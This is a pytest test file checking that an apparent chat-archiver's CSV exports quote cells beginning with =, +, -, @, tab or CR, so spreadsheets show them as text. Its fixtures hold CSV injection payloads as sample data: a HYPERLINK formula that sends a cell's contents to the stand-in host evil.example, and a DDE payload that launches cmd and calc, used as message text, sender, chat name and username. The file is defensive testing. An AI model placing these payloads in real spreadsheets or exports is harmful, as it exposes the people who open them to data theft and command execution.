"""Every CSV the tool writes shows formulas as text (OWASP's rule against CSV injection:
a cell starting with = + - @ TAB or CR gets a leading single quote)."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import Result
from hypothesis import given, settings
from hypothesis import strategies as st

from archiver.search.export import FORMULA_STARTS, SafeCsvWriter, csv_cell

Run = Callable[..., Result]
KEY = {"ARCHIVER_KEY_FILE": "k.key"}
HOSTILE = {
    '=HYPERLINK("http://evil.example/?x="&A1,"Invoice")': "'=HYPERLINK(",
    "+1 555 0100 is my cell": "'+1 555 0100",
    "-2+3 bps on the bond": "'-2+3 bps",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)",
}
EXPORT = (
    "".join(f"3/1/24, 09:0{i} - Dana: {text}\n" for i, text in enumerate(HOSTILE))
    + "3/1/24, 09:09 - =Mallory: plain words\n"
)


@pytest.fixture
def ready(run: Run, tmp_path: Path) -> None:
    assert run("init", "--tz", "UTC", "--key-file", "k.key").exit_code == 0
    (tmp_path / "WhatsApp Chat with =cmd.txt").write_text(EXPORT, encoding="utf-8")
    result = run("ingest", "WhatsApp Chat with =cmd.txt", "--date-order", "mdy", **KEY)
    assert result.exit_code == 0, result.output


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_neutralised(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


def test_export_csv_neutralises_formulas_in_text_sender_and_chat(
    run: Run, ready: None, tmp_path: Path
) -> None:
    result = run("export", "--format", "csv", "--out", "all.csv", **KEY)
    assert result.exit_code == 0, result.output
    rows = cells((tmp_path / "all.csv").read_text(encoding="utf-8"))
    header = rows[0]
    texts = [r[header.index("text")] for r in rows[1:]]
    for original, shown in HOSTILE.items():
        assert [t for t in texts if t.startswith(shown)] == ["'" + original]
    assert [r[header.index("sender")] for r in rows[1:]].count("'=Mallory") == 1
    assert {r[header.index("chat")] for r in rows[1:]} == {"'=cmd"}
    assert_neutralised(rows)
    # JSON Lines keeps every text exactly as written.
    assert run("export", "--out", "all.jsonl", **KEY).exit_code == 0
    lines = (tmp_path / "all.jsonl").read_text(encoding="utf-8").splitlines()
    assert sorted(json.loads(line)["text"] for line in lines) == sorted([*HOSTILE, "plain words"])


def test_search_csv_neutralises_formulas(run: Run, ready: None) -> None:
    result = run("search", "bond OR invoice OR cmd OR cell", "--csv", **KEY)
    assert result.exit_code == 0, result.output
    rows = cells(result.stdout)
    assert len(rows) == 5
    assert_neutralised(rows)
    assert "'-2+3 bps on the bond" in [r[rows[0].index("text")] for r in rows]


def test_audit_csv_neutralises_formulas(
    run: Run, ready: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    from archiver.cli import common

    monkeypatch.setattr(common.getpass, "getuser", lambda: "=cmd|' /C calc'!A0")
    assert run("status", **KEY).exit_code == 0
    result = run("audit", "--csv", **KEY)
    assert result.exit_code == 0, result.output
    rows = cells(result.stdout)
    assert rows[-1][rows[0].index("user")] == "'=cmd|' /C calc'!A0"
    assert_neutralised(rows)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.one_of(st.text(max_size=12), st.integers()), min_size=1, max_size=5))
def test_a_cell_reads_back_as_written_or_quoted_and_never_as_a_formula(
    row: list[str | int],
) -> None:
    out = io.StringIO()
    SafeCsvWriter(out).writerow(row)
    [back] = list(csv.reader(io.StringIO(out.getvalue())))
    assert back == [str(csv_cell(v)) for v in row]
    for original, cell in zip(row, back, strict=True):
        if isinstance(original, int):  # a number stays a number (-1 is no formula)
            assert cell == str(original)
            continue
        assert not cell.startswith(FORMULA_STARTS)
        assert cell == original or cell == "'" + original
